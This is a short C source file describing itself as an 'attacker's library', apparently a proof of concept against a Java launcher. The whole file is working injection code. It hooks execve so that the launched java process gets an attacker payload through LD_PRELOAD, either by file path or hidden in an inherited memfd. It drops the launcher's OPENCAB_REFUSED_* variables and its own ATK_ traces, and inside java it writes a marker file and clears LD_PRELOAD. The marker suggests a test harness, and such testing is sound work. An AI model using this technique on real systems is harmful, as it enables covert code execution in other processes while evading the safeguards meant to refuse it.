/* Attacker's library. In the launcher's shell (dash) it interposes execve: when the shell execs the
   image's java, it hands the JVM an LD_PRELOAD of the payload (mode ATK_MODE: "path" = ATK_PAYLOAD as is,
   "memfd" = the payload copied into an inheritable memfd) and drops every OPENCAB_REFUSED_* variable.
   Inside java the constructor writes a marker and removes LD_PRELOAD from the environment. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
extern char **environ;
static int is_java(void) { char exe[512] = {0}; readlink("/proc/self/exe", exe, sizeof exe - 1); return strstr(exe, "/bin/java") != NULL; }
__attribute__((constructor)) static void init(void) {
  if (!is_java()) return;
  char buf[256]; snprintf(buf, sizeof buf, "/tmp/hook-%d", (int)getpid());
  FILE *o = fopen(buf, "a");
  if (o) { fprintf(o, "FOREIGN CODE in java pid=%d LD_PRELOAD=%s\n", (int)getpid(), getenv("LD_PRELOAD")); fclose(o); }
  unsetenv("LD_PRELOAD");
}
int execve(const char *path, char *const argv[], char *const envp[]) {
  static int (*real)(const char *, char *const[], char *const[]);
  if (!real) real = dlsym(RTLD_NEXT, "execve");
  if (!strstr(path, "/bin/java")) return real(path, argv, envp);
  const char *payload = getenv("ATK_PAYLOAD"); const char *mode = getenv("ATK_MODE");
  char pre[600];
  if (mode && !strcmp(mode, "memfd")) {
    int fd = memfd_create(getenv("ATK_MEMFD_NAME") ? getenv("ATK_MEMFD_NAME") : "x", 0);
    int in = open(payload, O_RDONLY); char b[65536]; ssize_t n;
    while ((n = read(in, b, sizeof b)) > 0) write(fd, b, n);
    close(in);
    snprintf(pre, sizeof pre, "LD_PRELOAD=/proc/self/fd/%d", fd);
  } else snprintf(pre, sizeof pre, "LD_PRELOAD=%s", payload);
  int c = 0; while (envp[c]) c++;
  char **env = calloc(c + 3, sizeof *env); int k = 0;
  for (int i = 0; i < c; i++) if (strncmp(envp[i], "OPENCAB_REFUSED_", 16) && strncmp(envp[i], "LD_PRELOAD=", 11) && strncmp(envp[i], "ATK_", 4)) env[k++] = envp[i];
  env[k++] = pre; env[k] = NULL;
  return real(path, argv, env);
}
